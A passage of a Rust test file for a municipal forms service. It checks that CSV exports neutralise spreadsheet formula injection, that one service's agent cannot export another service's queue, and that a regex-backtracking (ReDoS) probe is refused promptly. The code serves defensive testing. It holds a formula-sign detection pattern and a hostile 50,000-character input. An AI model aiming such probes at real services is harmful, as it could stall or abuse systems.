            .starts_with("text/csv")
    );
    let bytes = response.bytes().await.unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a BOM for spreadsheets");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header[0], "Référence");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), formulas.len(), "one row per request");
    let all_cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
    // What a spreadsheet evaluates: a control character first, or a formula sign (ASCII,
    // fullwidth or small) as the first character after spaces and invisible characters.
    let runs = |cell: &str| {
        cell.starts_with(|c: char| c.is_control())
            || cell
                .trim_start_matches(|c: char| {
                    c.is_whitespace()
                        || matches!(
                            c,
                            '\u{200B}'..='\u{200F}' | '\u{2060}' | '\u{FEFF}' | '\u{AD}'
                        )
                })
                .starts_with([
                    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{FE66}',
                    '\u{FE62}', '\u{FE63}', '\u{FE6B}',
                ])
    };
    for cell in &all_cells {
        assert!(!runs(cell), "a cell a spreadsheet would run: {cell:?}");
    }
    for formula in formulas {
        assert!(
            all_cells
                .iter()
                .any(|c| c.contains(&format!("Nom et prénom : {formula}"))),
            "the answer is kept as typed: {formula}"
        );
    }
    // One form in the listing: a column per question, where the citizen's text starts the
    // cell, and where the neutralisation is what keeps it from running.
    let name = header
        .iter()
        .position(|h| h == "Nom et prénom")
        .expect("a column per question");
    let mut names: Vec<&str> = rows.iter().map(|r| &r[name]).collect();
    names.sort();
    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    expected.sort();
    assert_eq!(names, expected);
    // Another service's agent cannot export this queue.
    add_user(&app, "voirie@agglo.fr", Role::Agent, &["voirie"], &[]).await;
    let other = login(&app, "voirie@agglo.fr").await;
    let (status, _) = other
        .get(&app, "/bureau/files/dechets-bacs/export.csv")
        .await;
    assert_eq!(status, 404);
}

/// `^(a+)+$` takes exponential time in a backtracking engine on "aaaa…!"; the validator's
/// regex engine is linear, so a 50,000-character probe is refused at once.
#[tokio::test]
async fn a_backtracking_prone_pattern_is_bounded_at_run_time() {
    let catalogue = common::catalogue_copy(
        &common::fixture("minimal"),
        &[&common::fixture("hostile/pattern-backtrack")],
    );
    let app = common::spawn_app_with(catalogue.path()).await;
    let probe = format!("{}!", "a".repeat(50_000));
    let started = std::time::Instant::now();
    let response = app
        .client
        .post(app.url("/api/v1/forms/demande/submissions"))
        .json(&json!({"categorie": "trou", "commune": "alpha", "code": probe}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["errors"][0]["path"], "/code");
    assert!(common::first_error(&body).contains("que des a"), "{body}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "answered in {:?}",
        started.elapsed()
    );
    assert_eq!(app.count().await, 0);
}
